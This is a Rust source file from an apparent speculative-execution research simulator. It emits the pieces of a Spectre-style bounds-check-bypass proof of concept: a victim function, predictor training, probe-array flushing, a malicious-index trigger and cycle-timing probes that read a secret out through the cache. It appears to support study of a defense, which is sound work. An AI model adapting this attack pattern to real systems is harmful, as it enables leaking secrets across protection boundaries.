//! Program fragments shared by the attack proofs of concept: the Fig. 8
//! victim function, predictor training loops, the probe-array flush loop and
//! the timing probe.
//!
//! Register conventions inside generated programs: `r1` carries the victim
//! argument `x`; `r2`–`r9` are victim scratch; `r10`–`r25` attacker scratch;
//! `r30` is the assembler temporary; `r31` is the stack pointer.

use specrun_isa::{AluOp, BranchCond, IntReg, ProgramBuilder};

use crate::attack::AttackLayout;

fn r(i: u8) -> IntReg {
    IntReg::new(i).unwrap()
}

/// Emits the Fig. 8 `victim_function` under the label `victim_function`.
///
/// ```text
/// void victim_function(size_t x) {         // x in r1
///     if (x < array1_size) {                // array1_size = *D (stall source)
///         <nop_slide nops>                  // Fig. 11's padding
///         S = array1[x];                    // access secret
///         tmp = array2[S * N];              // transmit secret
///     }
/// }
/// ```
///
/// The bounds check is emitted through [`ProgramBuilder::if_block`], so the
/// branch-scope metadata the §6 defense requires is attached automatically.
pub fn emit_victim_function(b: &mut ProgramBuilder, layout: &AttackLayout, nop_slide: usize) {
    b.label("victim_function");
    b.la(r(2), "bound_addr");
    b.ld(r(3), r(2), 0); // array1_size = *D — the stalling load
    b.if_block(BranchCond::Ltu, r(1), r(3), |b| {
        b.nops(nop_slide);
        b.la(r(4), "array1");
        b.add(r(4), r(4), r(1));
        b.ldb(r(5), r(4), 0); // S = array1[x]
        b.li(r(6), layout.probe_stride as i32);
        b.mul(r(5), r(5), r(6));
        b.la(r(6), "array2");
        b.add(r(5), r(5), r(6));
        b.ldb(r(7), r(5), 0); // transmit: touch array2[S * N]
    });
    b.ret();
}

/// Defines the layout's data symbols on a builder.
pub fn define_symbols(b: &mut ProgramBuilder, layout: &AttackLayout) {
    b.def_sym("bound_addr", layout.bound_addr);
    b.def_sym("array1", layout.array1_base);
    b.def_sym("array2", layout.probe_base);
    b.def_sym("results", layout.results_base);
}

/// Emits the training phase: `rounds` calls of `victim_function` with the
/// in-bounds argument `x = 0`, teaching the PHT that the bounds check
/// falls through into the body (paper step ①).
pub fn emit_training_loop(b: &mut ProgramBuilder, rounds: u32) {
    b.for_loop(r(20), rounds as i32, |b| {
        b.li(r(1), 0);
        b.call("victim_function");
    });
}

/// Emits a loop that `clflush`es every probe-array entry, resetting the
/// covert channel after training (training itself touches `array2[0]`).
pub fn emit_probe_flush(b: &mut ProgramBuilder, layout: &AttackLayout) {
    b.la(r(10), "array2");
    b.for_loop(r(20), layout.probe_entries as i32, |b| {
        b.flush(r(10), 0);
        b.alui(AluOp::Add, r(10), r(10), layout.probe_stride as i32);
    });
}

/// Emits the attack trigger (paper steps ② and ③): flush `D`, set the
/// malicious index, call the victim.
pub fn emit_attack_call(b: &mut ProgramBuilder, layout: &AttackLayout) {
    b.la(r(11), "bound_addr");
    b.flush(r(11), 0);
    b.li(r(1), layout.malicious_x() as i32);
    b.call("victim_function");
}

/// Emits the probe loop (paper step ④): measure the access latency of every
/// probe entry with serialized `rdcycle` pairs and store the 256 timings to
/// `results`.
pub fn emit_probe_loop(b: &mut ProgramBuilder, layout: &AttackLayout) {
    b.la(r(12), "array2");
    b.la(r(13), "results");
    b.for_loop(r(20), layout.probe_entries as i32, |b| {
        b.rdcycle(r(15));
        b.ldb(r(16), r(12), 0);
        b.rdcycle(r(17));
        b.sub(r(18), r(17), r(15));
        b.sd(r(18), r(13), 0);
        b.alui(AluOp::Add, r(12), r(12), layout.probe_stride as i32);
        b.alui(AluOp::Add, r(13), r(13), 8);
    });
}

/// Builds a standalone probe program (used by the multi-program BTB/RSB
/// variants, where the attacker probes from her own process).
pub fn build_probe_program(layout: &AttackLayout) -> specrun_isa::Program {
    let mut b = ProgramBuilder::new(0x40_0000);
    define_symbols(&mut b, layout);
    emit_probe_loop(&mut b, layout);
    b.halt();
    b.build().expect("probe program is closed")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn victim_function_has_branch_scope() {
        let layout = AttackLayout::default();
        let mut b = ProgramBuilder::new(0x1000);
        define_symbols(&mut b, &layout);
        emit_victim_function(&mut b, &layout, 0);
        b.halt();
        let p = b.build().unwrap();
        assert_eq!(p.branch_scopes().len(), 1, "bounds check must carry scope metadata");
        assert!(p.symbol("victim_function").is_some());
    }

    #[test]
    fn nop_slide_grows_the_body() {
        let layout = AttackLayout::default();
        let len = |slide| {
            let mut b = ProgramBuilder::new(0x1000);
            define_symbols(&mut b, &layout);
            emit_victim_function(&mut b, &layout, slide);
            b.build().unwrap().len()
        };
        assert_eq!(len(300) - len(0), 300);
    }

    #[test]
    fn probe_program_builds() {
        let p = build_probe_program(&AttackLayout::default());
        assert!(p.len() > 256 / 64, "probe loop exists");
    }
}
